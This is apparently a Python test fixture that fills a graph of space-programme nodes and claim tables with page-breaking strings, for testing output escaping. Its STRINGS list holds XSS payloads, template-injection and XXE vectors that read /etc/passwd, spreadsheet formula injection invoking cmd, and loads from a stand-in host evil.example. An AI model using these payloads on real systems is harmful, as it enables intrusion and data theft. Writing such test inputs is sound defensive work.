"""Strings that break pages, and a graph whose every text is one of them."""

from __future__ import annotations

import networkx as nx
import pandas as pd

#: Each of them asks to run, to load, to leave the place that it stands in, or to look like something else.
STRINGS = {
    "script": "<script>window.hacked=1</script>",
    "script upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script split": "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "end of script": "</script><script>window.hacked=1</script>",
    "end of style": "</style><script>window.hacked=1</script>",
    "end of title": "</title><img src=x onerror=window.hacked=1>",
    "end of textarea": "</textarea><svg onload=window.hacked=1>",
    "comment": "<!--<script>window.hacked=1//-->",
    "comment open": "<!-- never closed",
    "image": '"><img src=x onerror="window.hacked=1">',
    "image unquoted": "<img src=x onerror=window.hacked=1>",
    "image far": "<img src=https://evil.example/pixel.gif>",
    "svg": "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "svg use": '<svg><use href="https://evil.example/a.svg#x"/></svg>',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "template": "<template><script>window.hacked=1</script></template>",
    "iframe": '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    "object": '<object data="data:text/html,<script>window.hacked=1</script>"></object>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "link": '<link rel=stylesheet href="https://evil.example/a.css">',
    "form": '<form action="https://evil.example/"><button autofocus onfocus=window.hacked=1>',
    "details": "<details open ontoggle=window.hacked=1>",
    "attribute": "' onmouseover='window.hacked=1",
    "attribute double": '" autofocus onfocus="window.hacked=1" x="',
    "attribute back": "`onmouseover=window.hacked=1`",
    "javascript": "javascript:window.hacked=1",
    "javascript cased": "JaVaScRiPt:window.hacked=1",
    "javascript tab": "java\tscript:window.hacked=1",
    "javascript entity": "&#106;avascript:window.hacked=1",
    "data address": "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
    "vbscript": "vbscript:msgbox(1)",
    "file address": "file:///etc/passwd",
    "curly": "{{7*7}} {{constructor.constructor('window.hacked=1')()}}",
    "jinja": "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "dollar": "${window.hacked=1} #{7*7} <%= 7*7 %>",
    "entity": "&lt;script&gt;window.hacked=1&lt;/script&gt; &amp;amp; &nbsp;",
    "cdata": "<![CDATA[<script>window.hacked=1</script>]]>",
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "quotes": "\"'`\\\"\\'\\",
    "backslash": "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "line separators": "a\u2028window.hacked=1\u2029b",
    "new lines": "a\nb\r\nwindow.hacked=1",
    "nul": "Peru\x00<script>window.hacked=1</script>",
    "controls": "Peru\x1b[2J\x07\x08\x7f\x85",
    "override": "\u202eyrtnuoc\u202c and \u2067isolate",
    "arabic": "الإمارات العربية المتحدة",
    "zero width": "Pe\u200bru\ufeff\u00ad",
    "lone high": "Peru \ud83d Peru",
    "lone low": "Peru \udc0f Peru",
    "emoji": "🇧🇾👩‍🚀",
    "stacked": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "formula": '=HYPERLINK("https://evil.example/","x")',
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "prototype": "__proto__",
    "constructor": "constructor",
    "number": "1e309",
    "long": "<b>" * 3000,
    "one word": "x" * 5000,
}
COUNTRIES = "BLR PER BRA MEX FRA TUR IND AUS ZAF SEN".split()
PROGRAMS = ("program:ILRS", "program:ARTEMIS_ACCORDS")


def hostile_tables() -> tuple[nx.MultiDiGraph[str], pd.DataFrame, pd.DataFrame]:
    """Return the arguments of ``write_page``, with a node, two ties, two claims and an article for each of the strings."""
    graph: nx.MultiDiGraph[str] = nx.MultiDiGraph()
    claims: list[dict[str, object]] = []
    articles: list[dict[str, object]] = []
    everything = list(STRINGS.values())
    for program, name in zip(PROGRAMS, ("ILRS", "Artemis Accords"), strict=True):
        graph.add_node(program, **_node("program", name, [f"also {text}" for text in everything]))
    for number, text in enumerate(everything):
        node = f"country:{COUNTRIES[number]}" if number < len(COUNTRIES) else f"organization:h{number}"
        graph.add_node(node, **_node(node.split(":", maxsplit=1)[0], text, [text]))
        own = f"program:H{number}"
        graph.add_node(own, **_node("program", text, [f"{text} {text}"]))
        articles.append({
            "id": f"a{number}", "url": text, "title": text, "author": text, "outlet": text, "published": f"2023-{1 + number % 12:02}",
            "language": text, "story": f"a{number}",
        })  # fmt: skip
        for object_, relation in ((PROGRAMS[number % 2], "member_of"), (own, "leads")):
            _tie(graph, claims, (node, relation, object_), text, number)
    # a column of text holds no halves of characters; one of objects does
    return graph, pd.DataFrame(claims, dtype=object), pd.DataFrame(articles, dtype=object)


def _node(kind: str, text: str, aliases: list[str]) -> dict[str, object]:
    texts = dict.fromkeys(("name", "label", "region", "continent", "type"), text)
    return {"kind": kind, **texts, "country": "", "coalition": "ILRS", "aliases": aliases}


def _tie(
    graph: nx.MultiDiGraph[str], claims: list[dict[str, object]], ends: tuple[str, str, str], text: str, number: int
) -> None:
    subject, relation, object_ = ends
    key = f"{number:08x}{relation[0] * 8}"
    claims.append({
        "id": key, "article": f"a{number}", "subject": subject, "relation": relation, "object": object_, "status": "current",
        "date": "2023-10", "role": text, "about": text, "topics": [text], "attributed_to": text, "start": 0, "end": len(text),
        "sentence": text, "rule": text, "cue": text, "confidence": 0.95, "decision": "",
    })  # fmt: skip
    graph.add_edge(
        subject, object_, key=key, relation=relation, status="current", since="2023-10", until=None, first_seen="2023-10",
        last_seen="2023-11", earlier=[], support=1, said_by=text, confidence=0.95, sure=True, disputed=number % 2 == 0,
        since_conflict=False, role=text, about=text, topics=[text], claim_ids=[key], decision=text,
    )  # fmt: skip
